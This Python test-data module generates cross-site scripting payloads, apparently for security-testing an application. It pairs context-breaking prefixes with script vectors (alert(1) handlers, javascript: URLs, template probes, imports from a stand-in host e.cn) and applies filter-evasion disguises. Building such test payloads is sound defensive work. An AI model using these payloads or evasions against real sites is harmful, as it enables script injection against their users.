"""Hostile texts of our own making: where a value breaks out, what it puts there, how it is disguised."""

import os
import random
from collections.abc import Iterator
from itertools import product
from pathlib import Path

FOLDER = Path(__file__).parent / "payloads"
# A folder with more lists, one payload a line, for an office that may use the public ones.
MORE = "CASEAPP_PAYLOADS"
BREAKS = (
    *("", '"', "'", "`", '">', "'>", "-->", "]]>", "</textarea>", "</title>", "</script>"),
    *("</style>", "</option></select>", "</td></tr></table>", "\\x22>", "&quot;>", "%22%3E"),
)
ACTS = (
    *("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>"),
    *("<svg/onload=alert`1`>", "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>"),
    *("<details open ontoggle=alert(1)>", "<video><source onerror=alert(1)></video>"),
    *("<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'>"),
    *("<a href=javascript:alert(1)>x</a>", "<form action=javascript:alert(1)><button>x</button>"),
    *("<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<base href=//e.cn>"),
    *("<math><mi xlink:href='javascript:alert(1)'>x</mi></math>", "<link rel=import href=//e.cn>"),
    *(
        "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
        "<style>@import'//e.cn'</style>",
    ),
    *(
        "<marquee onstart=alert(1)>",
        "<select onfocus=alert(1) autofocus>",
        "<isindex action=//e.cn>",
    ),
    *(
        " onmouseover=alert(1) x=",
        " style=background:url(javascript:alert(1)) ",
        "javascript:alert(1)",
    ),
    *(
        "data:text/html,<script>alert(1)</script>",
        "vbscript:msgbox(1)",
        "{{7*7}}",
        "${7*7}",
        "{% x %}",
    ),
    *(
        "<template><script>alert(1)</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    ),
    *("<xmp><script>alert(1)</script></xmp>", "<!--[if IE]><script>alert(1)</script><![endif]-->"),
)


def _plain(text: str) -> str:
    return text


def _mixed_case(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


def _slashes(text: str) -> str:
    return text.replace(" ", "/", 1)


def _entities(text: str) -> str:
    return text.replace("a", "&#97;").replace("(", "&lpar;")


def _escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


def _wide(text: str) -> str:
    return text.replace("<", "＜").replace(">", "＞").replace("'", "＇")


def _doubled(text: str) -> str:
    return text.replace("script", "scrscriptipt").replace("on", "oonn", 1)


DISGUISES = (_plain, _mixed_case, _slashes, _entities, _escapes, _wide, _doubled)


def all_scripts() -> list[str]:
    """Return every script payload, each once, in a fixed order."""
    own = (disguise(cut + act) for disguise, cut, act in product(DISGUISES, BREAKS, ACTS))
    return list(dict.fromkeys([*own, *_more()]))


def scripts(count: int) -> list[str]:
    """Return a fixed sample that meets every break, every act and every disguise."""
    every = all_scripts()
    random.Random(210300).shuffle(every)  # noqa: S311 - test data, no secret
    return every[:count]


def kept(name: str) -> list[str]:
    """Return a kept list; lines are written with Python's escapes, so that all can be seen."""
    text = (FOLDER / f"{name}.txt").read_text(encoding="ascii")
    lines = [line for line in text.splitlines() if line and not line.startswith("# ")]
    return [line.encode("ascii").decode("unicode_escape") for line in lines]


def _more() -> Iterator[str]:
    folder = os.environ.get(MORE, "")
    if folder:
        for path in sorted(Path(folder).rglob("*.txt")):
            for line in path.read_text(encoding="utf-8", errors="replace").splitlines():
                if line.strip():
                    yield line
